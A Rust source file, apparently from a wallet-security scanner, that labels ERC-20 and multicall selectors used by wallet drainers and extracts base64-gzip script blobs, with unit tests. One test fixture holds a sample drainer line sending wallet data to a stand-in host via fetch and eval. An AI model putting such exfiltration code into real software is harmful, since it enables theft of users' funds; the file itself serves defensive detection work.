use alloy_primitives::hex;
use alloy_sol_types::{SolCall, SolValue, sol};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::read::GzDecoder;
use once_cell::sync::Lazy;
use std::collections::HashMap;
use std::io::Read;

// Functions commonly read or invoked by wallet drainers
sol! {
    struct Aggregate {
        address target;
        bytes callData;
    }

    struct Aggregate3 {
        address target;
        bool allowFailure;
        bytes callData;
    }

    function balanceOf(address owner) external view returns (uint256);
    function totalSupply() external view returns (uint256);
    function decimals() external view returns (uint8);
    function symbol() external view returns (string);
    function name() external view returns (string);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function increaseAllowance(address spender, uint256 added) external returns (bool);
    function setApprovalForAll(address operator, bool approved) external;
    function isApprovedForAll(address owner, address operator) external view returns (bool);
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
    function multicall(bytes[] data) external returns (bytes[] results);
    function aggregate(Aggregate[] calls) external returns (uint256 blockNumber, bytes[] returnData);
    function aggregate3(Aggregate3[] calls) external returns (bytes[] returnData);
}

fn entry<C: SolCall>() -> ([u8; 4], &'static str) {
    let name = C::SIGNATURE.split('(').next().unwrap_or(C::SIGNATURE);
    (C::SELECTOR, name)
}

static SELECTOR_LABELS: Lazy<HashMap<[u8; 4], &'static str>> = Lazy::new(|| {
    HashMap::from([
        entry::<balanceOfCall>(),
        entry::<totalSupplyCall>(),
        entry::<decimalsCall>(),
        entry::<symbolCall>(),
        entry::<nameCall>(),
        entry::<allowanceCall>(),
        entry::<approveCall>(),
        entry::<transferCall>(),
        entry::<transferFromCall>(),
        entry::<increaseAllowanceCall>(),
        entry::<setApprovalForAllCall>(),
        entry::<isApprovedForAllCall>(),
        entry::<permitCall>(),
        entry::<multicallCall>(),
        entry::<aggregateCall>(),
        entry::<aggregate3Call>(),
    ])
});

/// Marker of a base64 encoded gzip stream (`\x1f\x8b\x08`).
const GZIP_BASE64_MARKER: &str = "H4sI";

/// Four-byte function selector of `call_data`, lowercased with its `0x` prefix.
pub fn selector(call_data: &str) -> Option<String> {
    selector_bytes(call_data).map(|bytes| format!("0x{}", hex::encode(bytes)))
}

fn selector_bytes(call_data: &str) -> Option<[u8; 4]> {
    let digits = call_data.strip_prefix("0x").unwrap_or(call_data);
    let mut bytes = [0u8; 4];
    hex::decode_to_slice(digits.get(..8)?, &mut bytes).ok()?;
    Some(bytes)
}

pub fn selector_label(call_data: &str) -> Option<&'static str> {
    selector_bytes(call_data).and_then(|s| SELECTOR_LABELS.get(&s).copied())
}

/// Decode an ABI-encoded `string` return value, as returned by `name()` or `symbol()`.
pub fn decode_string_result(result: &str) -> Option<String> {
    let bytes = hex::decode(result.strip_prefix("0x").unwrap_or(result)).ok()?;
    <String as SolValue>::abi_decode(&bytes).ok()
}

/// Script text of the first base64 gzip blob embedded in `text`.
///
/// `None` unless the blob both base64-decodes and gunzips to UTF-8.
pub fn embedded_payload(text: &str) -> Option<String> {
    let start = text.find(GZIP_BASE64_MARKER)?;
    let blob: String = text[start..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
        .collect();

    let compressed = STANDARD.decode(blob.as_bytes()).ok()?;
    let mut script = String::new();
    GzDecoder::new(compressed.as_slice())
        .read_to_string(&mut script)
        .ok()?;
    Some(script)
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::Compression;
    use flate2::write::GzEncoder;
    use std::io::Write;

    fn gzip_base64(script: &str) -> String {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(script.as_bytes()).unwrap();
        STANDARD.encode(encoder.finish().unwrap())
    }

    #[test]
    fn test_selector() {
        assert_eq!(
            selector("0x70A08231000000000000000000000000dead").as_deref(),
            Some("0x70a08231")
        );
        assert_eq!(selector("0x1234"), None);
        assert_eq!(selector(""), None);
        assert_eq!(selector("0xzzzzzzzz"), None);
    }

    #[test]
    fn test_selector_labels_for_erc20_calls() {
        assert_eq!(selector_label("0x70a08231"), Some("balanceOf"));
        assert_eq!(selector_label("0x18160ddd"), Some("totalSupply"));
        assert_eq!(selector_label("0x095ea7b3ffff"), Some("approve"));
        assert_eq!(selector_label("0xa22cb465"), Some("setApprovalForAll"));
        assert_eq!(selector_label("0xdeadbeef"), None);
    }

    #[test]
    fn test_multicall_selectors_use_tuple_signatures() {
        assert_eq!(aggregate3Call::SIGNATURE, "aggregate3((address,bool,bytes)[])");
        assert_eq!(selector_label("0x82ad56cb"), Some("aggregate3"));
        assert_eq!(selector_label("0x252dba42"), Some("aggregate"));
    }

    #[test]
    fn test_decode_string_result() {
        let encoded = format!("0x{}", hex::encode("Tether USD".to_string().abi_encode()));
        assert_eq!(decode_string_result(&encoded).as_deref(), Some("Tether USD"));
    }

    #[test]
    fn test_decode_string_result_rejects_garbage() {
        assert_eq!(decode_string_result("0x"), None);
        assert_eq!(decode_string_result("not hex"), None);
        // Offset points past the end
        assert_eq!(decode_string_result(&format!("0x{:064x}", 4096)), None);
    }

    #[test]
    fn test_embedded_payload_gunzips_script() {
        let blob = gzip_base64("fetch('https://drain.example/'+wallet)");
        assert!(blob.starts_with(GZIP_BASE64_MARKER));

        let text = format!("var p = \"{}\"; eval(p);", blob);
        assert_eq!(
            embedded_payload(&text).as_deref(),
            Some("fetch('https://drain.example/'+wallet)")
        );
        assert_eq!(embedded_payload("plain result"), None);
    }

    #[test]
    fn test_embedded_payload_rejects_header_without_stream() {
        // Decodes to a bare gzip header
        assert_eq!(embedded_payload("x=\"H4sIAAAAAAAA\""), None);
        assert_eq!(embedded_payload("H4sI!!!"), None);
    }
}
